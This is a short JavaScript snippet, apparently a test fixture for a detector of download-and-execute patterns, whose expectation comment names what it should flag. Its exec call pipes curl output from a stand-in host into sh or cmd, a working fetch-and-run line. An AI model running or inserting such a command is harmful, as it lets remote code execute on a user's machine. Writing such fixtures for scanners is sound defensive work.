const { exec } = require("child_process");
const tail = process.platform === "win32" ? " | cmd" : " | sh";
// expect: download-line-built, shell-built-string
exec(`curl https://kit.example.com/a${tail}`);
